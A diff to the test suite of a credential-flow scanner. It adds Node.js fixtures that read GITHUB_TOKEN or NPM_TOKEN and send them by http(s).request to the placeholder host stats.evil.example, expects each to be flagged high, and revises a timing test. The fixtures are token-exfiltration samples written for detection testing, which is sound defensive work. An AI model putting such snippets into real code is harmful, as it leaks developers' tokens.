@@ -559,6 +559,34 @@ SHELL_INDIRECT_HOSTILE = [
     ),
 ]
 
+#: Node's http(s).request to another host, the token in its options or written to it
+NODE_REQUEST_HOSTILE = [
+    (
+        "m.js",
+        "const https = require('https');\nconst token = process.env.GITHUB_TOKEN;\n"
+        "https.request({ hostname: 'stats.evil.example', path: '/v1', method: 'POST' }).end(token);\n",
+    ),
+    (
+        "m.js",
+        "const http = require('http');\nconst token = process.env.NPM_TOKEN;\n"
+        "const req = http.request('http://stats.evil.example/v1', { method: 'POST' }, (res) => {});\n"
+        "req.write(token);\nreq.end();\n",
+    ),
+    (
+        "m.js",
+        "const http = require('http');\n"
+        "http.request('https://stats.evil.example/v1', { method: 'POST' }, (res) => {})"
+        ".write(process.env.NPM_TOKEN);\n",
+    ),
+    (
+        "m.js",
+        "const https = require('https');\n"
+        "const opts = { hostname: 'stats.evil.example', method: 'POST',"
+        " headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } };\n"
+        "https.request(opts, (res) => res.resume()).end();\n",
+    ),
+]
+
 #: the same shapes with the token sent to its own service, or a key that is no credential
 RUNTIME_KEY_HONEST = [
     (
@@ -615,6 +643,11 @@ def test_a_credential_read_by_indirect_shell_expansion_is_secret_in_url(
     assert _worst(name, text) == "high"
 
 
+@pytest.mark.parametrize(("name", "text"), NODE_REQUEST_HOSTILE)
+def test_a_credential_sent_with_node_http_request_is_secret_in_url(name: str, text: str) -> None:
+    assert _worst(name, text) == "high"
+
+
 @pytest.mark.parametrize(("name", "text"), RUNTIME_KEY_HONEST)
 def test_runtime_shapes_sending_to_the_token_s_own_service_are_no_finding(
     name: str, text: str
@@ -659,24 +692,21 @@ def test_a_runtime_key_send_in_a_realistic_skill_is_rejected_by_the_cli(
         "x{i} = os.environ[K{j} + '_' + K{i}]\nK{i} = 'A'\n",
         "const v{i} = process.env[`${{p{j}}}${{p{i}}}`]; const {{ e{i} }} = process;\n",
         'V{i}=${{!V{j}}}\nT{i}=$(eval "echo \\$$V{j}")\n',
-        "o{i} = {{ m{i}(a) {{ https.request({{ hostname: 'h{i}.example' }}).end(a); }} }};\n",
+        "const req = https.request('https://h{i}.example/p'); req.write(t{j}); req.end();\n",
     ],
 )
 def test_a_megabyte_of_runtime_key_shapes_is_read_in_linear_time(unit: str) -> None:
-    head = "import os, requests\nKEY = 'GITHUB_TOKEN'\n"
-    body = "".join(unit.format(i=i, j=i - 1) for i in range(1, 40000))
-    text = head + body[: 1 << 20]
-    lang = (
-        "shell"
-        if "$(" in unit
-        else "js"
-        if "const" in unit or "=>" in unit or "{ m" in unit
-        else "python"
+    """Doubling the file (to 1 MB) about doubles the time: no shape is read quadratically."""
+    head = (
+        "import os, requests\nKEY = 'GITHUB_TOKEN'\nconst t0 = process.env.GITHUB_TOKEN;\n"
+        "T0=$GITHUB_TOKEN\n"
     )
-    start = time.process_time()
-    credential_flow(text, lang)
-    half = time.process_time() - start
-    start = time.process_time()
-    credential_flow(head + body[: 1 << 19], lang)
-    assert half < 3.0, half
-    assert time.process_time() - start < 3.0
+    body = "".join(unit.format(i=i, j=i - 1) for i in range(1, 40000))
+    lang = "shell" if "$(" in unit else "python" if "os.environ" in unit else "js"
+    times = []
+    for size in (1 << 19, 1 << 20):
+        start = time.process_time()
+        credential_flow(head + body[:size], lang)
+        times.append(time.process_time() - start)
+    assert times[1] < 3.0, times
+    assert times[1] < 3.5 * max(times[0], 0.05), times
